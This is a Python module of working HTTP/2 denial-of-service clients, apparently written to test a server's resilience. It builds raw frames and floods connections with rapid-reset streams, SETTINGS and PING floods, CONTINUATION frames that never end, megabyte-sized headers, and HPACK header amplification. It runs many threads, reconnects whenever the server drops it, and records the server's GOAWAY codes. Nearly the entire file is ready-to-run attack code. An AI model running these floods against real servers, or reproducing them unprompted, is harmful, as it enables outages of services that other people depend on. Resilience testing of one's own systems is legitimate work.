"""Clients that send HTTP/2's frames without end: what is cheap for them to send and may be dear to take.

Owns frames and how they are sent; who is attacked when is in `attack`.
"""

import itertools
import select
import socket
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RESET, SETTINGS, PING, GO_AWAY, CONTINUATION = 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 1, 4
LARGEST = 16_384
FRAMES_AT_ONCE = 200
CANCEL = (8).to_bytes(4)
PATIENCE = 5.0


def frame(kind, flags, stream, payload=b""):
    """One frame."""
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def text(value):
    """A text as HPACK writes it, as it is; of up to 16,510 bytes."""
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest = len(value) - 127
    return bytes([127, rest % 128 + 128, rest // 128]) + value


def literal(name, value, remembered=False):
    """A header field under a name of its own, which the other side may have to remember."""
    return bytes([0x40 if remembered else 0]) + text(name) + text(value)


# GET http, of the static table, and a path.
START = b"\x82\x86" + literal(b":path", b"/health") + literal(b":authority", b"localhost")


def opened(stream, more=b""):
    """A whole request, in as many frames as its head takes."""
    block = START + more
    pieces = [block[at : at + LARGEST] for at in range(0, len(block), LARGEST)]
    for index, piece in enumerate(pieces):
        last = END_HEADERS if index == len(pieces) - 1 else 0
        yield frame(CONTINUATION if index else HEADERS, last | (0 if index else END_STREAM), stream, piece)


def streams_reset(number):
    """Requests that are taken back as soon as they are sent."""
    first = 1 + 2 * FRAMES_AT_ONCE * number
    ids = range(first, first + 2 * FRAMES_AT_ONCE, 2)
    return b"".join(b"".join(opened(stream)) + frame(RESET, 0, stream, CANCEL) for stream in ids)


def settings(_number):
    """Settings, each of which has to be acknowledged."""
    return frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\xff\xff") * FRAMES_AT_ONCE


def pings(_number):
    """Pings, each of which has to be answered."""
    return frame(PING, 0, 0, b"12345678") * FRAMES_AT_ONCE


def heads_without_end(number):
    """One head, and more of it, and more."""
    more = frame(CONTINUATION, 0, 1, literal(b"a", b"b" * 16_000))
    return more if number else frame(HEADERS, END_STREAM, 1, START) + more


def empty_heads_without_end(number):
    """One head, and nothing more of it, again and again."""
    more = frame(CONTINUATION, 0, 1) * FRAMES_AT_ONCE
    return more if number else frame(HEADERS, END_STREAM, 1, START) + more


def heads_of_a_megabyte(number):
    """Requests with heads of a megabyte."""
    return b"".join(opened(1 + 2 * number, literal(b"a", b"b" * 16_000) * 64))


def heads_that_repeat_themselves(number):
    """Requests whose heads have one long field, and name it thousands of times, in a byte each."""
    field = b"" if number else literal(b"a", b"b" * 4_000, remembered=True)
    return b"".join(opened(1 + 2 * number, field + b"\xbe" * 64_000))


def endless(frames):
    """An attacker that sends these frames on its connections, as fast as they are taken, and connects anew when it has to."""

    def attack(address, _requests, connections, until, counts):
        workers = [threading.Thread(target=one, args=(address, frames, until, counts)) for _ in range(connections)]
        for worker in workers:
            worker.start()
        for worker in workers:
            worker.join()

    return attack


def one(address, frames, until, counts):
    """One connection after another."""
    while time.monotonic() < until:
        received = b""
        try:
            with socket.create_connection(address, timeout=PATIENCE) as connection:
                connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
                received = sent(connection, frames, until, counts)
                outcome = said(received)
        except OSError as error:
            outcome = type(error).__name__
        if time.monotonic() < until:
            counts[outcome] = counts.get(outcome, 0) + 1


def sent(connection, frames, until, counts):
    """Sends until the server ends the connection; the last that it said."""
    received = b""
    connection.setblocking(False)
    poll = select.poll()
    poll.register(connection, select.POLLIN | select.POLLOUT)
    for number in itertools.count():
        left = memoryview(frames(number))
        while left:
            if time.monotonic() > until:
                return received
            for _, events in poll.poll(100):
                if events & select.POLLIN or events & ~select.POLLOUT:
                    piece = connection.recv(65_536)
                    if not piece:
                        return received
                    received = (received + piece)[-4_096:]
                if events == select.POLLOUT:
                    taken = connection.send(left)
                    counts["MB sent"] = counts.get("MB sent", 0) + taken / 1e6
                    left = left[taken:]


def said(received):
    """Why the server ended the connection, if it said so last."""
    at = received.rfind(b"\x07\x00\x00\x00\x00\x00")
    code = int.from_bytes(received[at + 10 : at + 14]) if at >= 0 else None
    return "closed" if code is None else f"GOAWAY {code}"
